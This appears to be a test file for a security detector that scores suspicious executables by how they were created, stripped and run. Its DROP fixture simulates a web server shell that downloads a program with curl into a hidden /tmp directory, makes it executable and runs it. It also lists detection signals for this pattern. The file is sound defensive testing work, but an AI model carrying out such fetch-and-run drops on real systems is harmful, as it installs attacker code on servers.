import type { Signal } from "@limpid/core";
import fc from "fast-check";
import { describe, expect, it, test } from "vitest";
import { elf, GONE, TEXT } from "../testing/elf.ts";
import { CONTEXT, judge, loginShell, type Story, webShell } from "../testing/judging.ts";
import { assess } from "./assess.ts";
import { type SignalId, THRESHOLDS, WEIGHTS } from "./weights.ts";

const IDS = Object.keys(WEIGHTS) as SignalId[];
const INSPECTED = { inspected: true };

function signal(id: SignalId, certainty?: "inferred"): Signal {
  const bearing = WEIGHTS[id].points < 0 ? "contradicts" : "supports";
  return { id, bearing, explanation: `${id}.`, events: [], ...(certainty === undefined ? {} : { certainty }) };
}

const DROP: Story = {
  told: "a web server's shell fetches a program, runs it and removes it",
  about: "/tmp/.x/agent",
  tell: (scene) => {
    const shell = webShell(scene);
    shell.fork().exec("/usr/bin/curl", "curl -o /tmp/.x/agent http://h").create("/tmp/.x/agent").exit();
    shell.fork().exec("/usr/bin/chmod", "chmod 755 /tmp/.x/agent").chmod("/tmp/.x/agent").exit();
    scene.wait(6);
    shell.fork().exec("/tmp/.x/agent");
  },
};

describe("caps", () => {
  it("how a file looks alone is never above low", () => {
    const content = IDS.filter((id) => WEIGHTS[id].about === "content").map((id) => signal(id));
    expect(assess(content, WEIGHTS, INSPECTED)).toMatchObject({ priority: "low", score: THRESHOLDS.medium - 1 });
  });

  it("without bytes at most medium, unless the removal was seen on a command line", () => {
    const many = (["an0056.non-user-shell", "an0056.service-ancestor", "an0056.staging-app-wrote"] as const)
      .concat(["an0056.run-soon", "an0056.hidden-name", "an0056.world-writable-place"] as never)
      .map((id) => signal(id));
    expect(assess(many, WEIGHTS, INSPECTED).priority).toBe("high");
    expect(assess(many, WEIGHTS, { inspected: false }).priority).toBe("medium");
    for (const id of ["an0056.strip-flags", "an0056.packer-command"] as const) {
      expect(assess([...many, signal(id)], WEIGHTS, { inspected: false }).priority, id).toBe("high");
    }
  });

  it("what explains a file does not hide what speaks strongly against it", () => {
    const weak = [signal("an0056.symbols-removed"), signal("an0056.package-manager")];
    expect(assess(weak, WEIGHTS, INSPECTED).priority).toBe("expected");
    const strong = IDS.filter((id) => WEIGHTS[id].points > 0).map((id) => signal(id));
    expect(assess([...strong, signal("an0056.package-manager")], WEIGHTS, INSPECTED).priority).toBe("high");
  });

  it("an inferred fact counts less, and for nothing more than a certain one", () => {
    const certain = assess([signal("an0056.staging-app-wrote")], WEIGHTS, INSPECTED);
    const inferred = assess([signal("an0056.staging-app-wrote", "inferred")], WEIGHTS, INSPECTED);
    expect(inferred.score).toBeLessThan(certain.score);
  });

  it("score and priority agree for any reasons", () => {
    fc.assert(
      fc.property(fc.subarray(IDS), fc.boolean(), (ids, inspected) => {
        const { score, priority } = assess(
          ids.map((id) => signal(id)),
          WEIGHTS,
          { inspected },
        );
        expect(score).toBeGreaterThanOrEqual(0);
        expect(score).toBeLessThanOrEqual(100);
        expect(priority === "high").toBe(score >= THRESHOLDS.high);
        expect(priority === "medium").toBe(score >= THRESHOLDS.medium && score < THRESHOLDS.high);
      }),
    );
  });
});

describe("everyday files", () => {
  test.each<{ story: Story; priority: string }>([
    {
      story: {
        told: "a person installs what they built elsewhere",
        about: "/usr/local/bin/tool",
        tell: (scene) => {
          loginShell(scene)
            .fork()
            .exec("/usr/bin/install", "install tool /usr/local/bin")
            .create("/usr/local/bin/tool");
        },
      },
      priority: "low",
    },
    {
      story: {
        told: "a service updates itself",
        about: "/opt/agent/bin/agent",
        tell: (scene) => {
          scene
            .process({ image: "/opt/agent/bin/updater", uid: 0 })
            .create("/opt/agent/bin/agent")
            .chmod("/opt/agent/bin/agent");
        },
      },
      priority: "low",
    },
    {
      story: {
        told: "a person downloads a tool and runs it",
        about: "/home/dev/bin/kubectl",
        tell: (scene) => {
          const shell = loginShell(scene);
          shell.fork().exec("/usr/bin/curl", "curl -LO").create("/home/dev/bin/kubectl").exit();
          shell.fork().exec("/usr/bin/chmod", "chmod +x").chmod("/home/dev/bin/kubectl").exit();
          shell.fork().exec("/home/dev/bin/kubectl", "kubectl version");
        },
      },
      priority: "low",
    },
    {
      story: {
        told: "somebody unpacks a package into /tmp instead of installing it",
        about: "/tmp/.x/agent",
        tell: (scene) => {
          const shell = webShell(scene);
          shell.fork().exec("/usr/bin/dpkg-deb", "dpkg-deb -x a.deb /tmp/.x").create("/tmp/.x/agent").exit();
        },
      },
      priority: "high",
    },
  ])("$story.told: $priority", ({ story, priority }) => {
    expect(judge(story)?.priority).toBe(priority);
  });
});

describe("which files are judged", () => {
  test.each([
    { name: "not stripped", bytes: elf({ level: "none" }) },
    { name: "a text", bytes: TEXT },
    { name: "a core dump", bytes: elf({ level: "symbols", type: "core" }) },
    { name: "a file of debug information", bytes: elf({ level: "symbols", type: "debug" }) },
  ])("$name: no finding, whatever its life", ({ bytes }) => {
    expect(judge({ ...DROP, bytes })).toBeUndefined();
  });

  it("a damaged file is judged like one without bytes, and the damage is a missing fact", () => {
    const judgement = judge({ ...DROP, bytes: elf({ level: null }) });
    expect(judgement?.priority).toBe("medium");
    expect(judgement?.missing.map(({ id }) => id)).toContain("opacity");
  });

  it("without bytes a file that nobody could run is none", () => {
    const story: Story = {
      told: "a log file",
      about: "/srv/log",
      bytes: GONE,
      tell: (scene) => {
        webShell(scene).create("/srv/log");
      },
    };
    expect(judge(story)).toBeUndefined();
  });
});

describe("what would change it", () => {
  it("says which facts would, as they would be weighed", () => {
    const judgement = judge({ ...DROP, bytes: GONE });
    expect(judgement?.priority).toBe("medium");
    const changes = judgement?.wouldChange ?? [];
    expect(changes.map(({ to }) => to)).toContain("high");
    expect(changes.every(({ to }) => to !== judgement?.priority)).toBe(true);
    expect(changes.find(({ to }) => to === "high")?.explanation).toBe(
      "It would be high if its bytes were at hand and held no symbol table.",
    );
  });
});

describe("missing facts", () => {
  it("name what could not be had, each with a mend", () => {
    const judgement = judge({
      ...DROP,
      bytes: { state: "not-offered" },
      context: { eventsLost: () => 7 },
    });
    const missing = judgement?.missing ?? [];
    expect(missing.map(({ id }) => id)).toEqual(
      expect.arrayContaining(["file-bytes", "package-database", "events-lost"]),
    );
    expect(missing.every(({ mend, explanation }) => mend.endsWith(".") && explanation.length > 10)).toBe(true);
  });

  it("an unknown creator is said", () => {
    const judgement = judge({
      told: "a program that was there",
      about: "/tmp/.x/agent",
      tell: (scene) => {
        webShell(scene).fork().exec("/tmp/.x/agent");
      },
    });
    expect(judgement?.missing.map(({ id }) => id)).toContain("creator");
    expect(judgement?.title).toBe(
      "agent (ELF, symbols removed) was written by an unknown process, into a hidden directory in /tmp, and ran, started by dash.",
    );
  });
});

describe("titles", () => {
  test.each<{ story: Story; title: string }>([
    {
      story: DROP,
      title:
        "agent (ELF, symbols removed) was written by curl, under a shell that no person started, below python3.11 as www-data, into a hidden directory in /tmp, and ran 6 ms later.",
    },
    {
      story: {
        told: "a person downloads",
        about: "/home/dev/bin/tool",
        tell: (scene) => {
          loginShell(scene).fork().exec("/usr/bin/curl", "curl").create("/home/dev/bin/tool");
        },
      },
      title: "tool (ELF, symbols removed) was written by curl, for a person who is logged in, into /home/dev/bin.",
    },
    {
      story: {
        told: "strip in place",
        about: "/srv/data/tool",
        bytes: elf({ level: "sections", packed: true }),
        tell: (scene) => {
          scene.existing("/srv/data/tool");
          scene.process({ image: "/usr/bin/strip", uid: 0 }).fchmod("/srv/data/tool").chmod("/srv/data/tool");
        },
      },
      title: "tool (ELF, section headers removed, packed) was probably changed in place by strip, into /srv/data.",
    },
  ])("$story.told", ({ story, title }) => {
    expect(judge(story)?.title.replace(", below strip as root", "")).toBe(title);
  });

  it("a hostile name is no second sentence of ours: it is bounded", () => {
    const name = "a".repeat(4000);
    const judgement = judge({
      told: "a long name",
      about: `/tmp/${name}`,
      tell: (scene) => {
        webShell(scene).create(`/tmp/${name}`);
      },
    });
    expect(judgement?.title.length).toBeLessThan(600);
    expect(CONTEXT.userName(33)).toBe("www-data");
  });
});
